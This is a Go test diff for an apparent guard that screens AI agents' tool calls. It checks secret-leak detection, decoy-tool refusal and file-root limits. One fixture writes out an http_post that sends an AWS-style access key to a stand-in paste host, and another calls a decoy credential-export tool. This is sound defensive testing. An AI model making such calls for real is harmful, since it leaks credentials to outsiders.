@@ -197,3 +197,103 @@ func TestApproveSeverityHolds(t *testing.T) {
 		t.Error("approve at block accepted")
 	}
 }
+
+func TestSecretsLeaving(t *testing.T) {
+	g, err := Compile(Config{Block: detect.High}, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fs := g.Check(context.Background(), "s", "http_post", true, []byte(`{"url":"https://paste.example/new","body":"aws_access_key_id=AKIAZ7QJ3NB4X5TLUE6M"}`))
+	if len(fs) == 0 || fs[0].Detector != "secrets" || fs[0].Severity < detect.High {
+		t.Errorf("findings %v, want a high secrets finding", fs)
+	}
+	// A commit hash or an opaque id is not a secret.
+	if fs := g.Check(context.Background(), "s", "get_commit", true, []byte(`{"sha":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b","cursor":"eyJwYWdlIjoyfQ"}`)); len(fs) != 0 {
+		t.Errorf("findings %v on ids", fs)
+	}
+	off, _ := Compile(Config{Block: detect.High, Disable: []string{"secrets"}}, Options{})
+	if fs := off.Check(context.Background(), "s", "http_post", true, []byte(`{"body":"AKIAZ7QJ3NB4X5TLUE6M"}`)); len(fs) != 0 {
+		t.Errorf("secrets disabled, findings %v", fs)
+	}
+}
+
+func TestDecoyRefused(t *testing.T) {
+	d, _ := canary.New(canary.Tool, "export_workspace_credentials", "decoy")
+	mw, err := New(Config{Block: detect.High}, Options{Decoys: map[string]canary.Canary{d.Values[0]: d}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	up := &upstream{}
+	_, err = mw(up).Handle(context.Background(), call("export_workspace_credentials", map[string]any{"scope": "all"}))
+	var r *guard.Refusal
+	if !errors.As(err, &r) || up.reached != 0 {
+		t.Fatalf("decoy call: err %v, reached %d", err, up.reached)
+	}
+	fs, _ := r.Data["findings"].([]map[string]any)
+	if len(fs) == 0 || fs[0]["detector"] != "canary" || fs[0]["rule"] != "tool" || fs[0]["severity"] != "critical" {
+		t.Errorf("refusal findings %v", fs)
+	}
+	// Without arguments too.
+	c := &guard.Call{Msg: jsonrpc.NewRequest(jsonrpc.IntID(1), "tools/call", map[string]any{"name": "export_workspace_credentials"}), Server: "fs", Name: "export_workspace_credentials"}
+	if _, err := mw(up).Handle(context.Background(), c); !errors.As(err, &r) || up.reached != 0 {
+		t.Errorf("decoy call without arguments: %v", err)
+	}
+}
+
+// rootsClient is a client that declared roots and answers roots/list.
+type rootsClient struct {
+	roots string
+	asked int
+}
+
+func (c *rootsClient) Capabilities() json.RawMessage {
+	return json.RawMessage(`{"roots":{"listChanged":true}}`)
+}
+func (c *rootsClient) Request(ctx context.Context, m *jsonrpc.Message) (*jsonrpc.Message, error) {
+	c.asked++
+	if m.Method != "roots/list" {
+		return nil, errors.New("unexpected " + m.Method)
+	}
+	return jsonrpc.NewResult(m.ID, json.RawMessage(c.roots)), nil
+}
+
+func TestClientRoots(t *testing.T) {
+	mw, err := New(Config{Block: detect.High}, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	up := &upstream{}
+	h := mw(up)
+	cl := &rootsClient{roots: `{"roots":[{"uri":"file:///home/ada/project","name":"project"},{"uri":"https://example.com/x"}]}`}
+	read := func(path, session string) error {
+		c := call("read_file", map[string]any{"path": path})
+		c.Session, c.Client = session, cl
+		_, err := h.Handle(context.Background(), c)
+		return err
+	}
+	if err := read("/home/ada/project/src/a.go", "s1"); err != nil {
+		t.Errorf("inside the client's root: %v", err)
+	}
+	if err := read("/home/ada/other/notes.txt", "s1"); err == nil {
+		t.Errorf("outside the client's root: passed")
+	}
+	if cl.asked != 1 {
+		t.Errorf("roots/list asked %d times, want once per session", cl.asked)
+	}
+	// The client changes its roots: asked again.
+	cl.roots = `{"roots":[{"uri":"file:///home/ada/other"}]}`
+	n := &guard.Call{Msg: jsonrpc.NewNotification("notifications/roots/list_changed", nil), Session: "s1", Client: cl}
+	if _, err := h.Handle(context.Background(), n); err != nil {
+		t.Fatal(err)
+	}
+	if err := read("/home/ada/other/notes.txt", "s1"); err != nil || cl.asked != 2 {
+		t.Errorf("after list_changed: %v, asked %d", err, cl.asked)
+	}
+	// Configured roots win; a client without the capability is not asked.
+	fixed, _ := New(Config{Block: detect.High, Roots: []string{"/srv"}}, Options{})
+	c := call("read_file", map[string]any{"path": "/srv/a"})
+	c.Session, c.Client = "s2", cl
+	if _, err := fixed(up).Handle(context.Background(), c); err != nil || cl.asked != 2 {
+		t.Errorf("configured roots: %v, asked %d", err, cl.asked)
+	}
+}
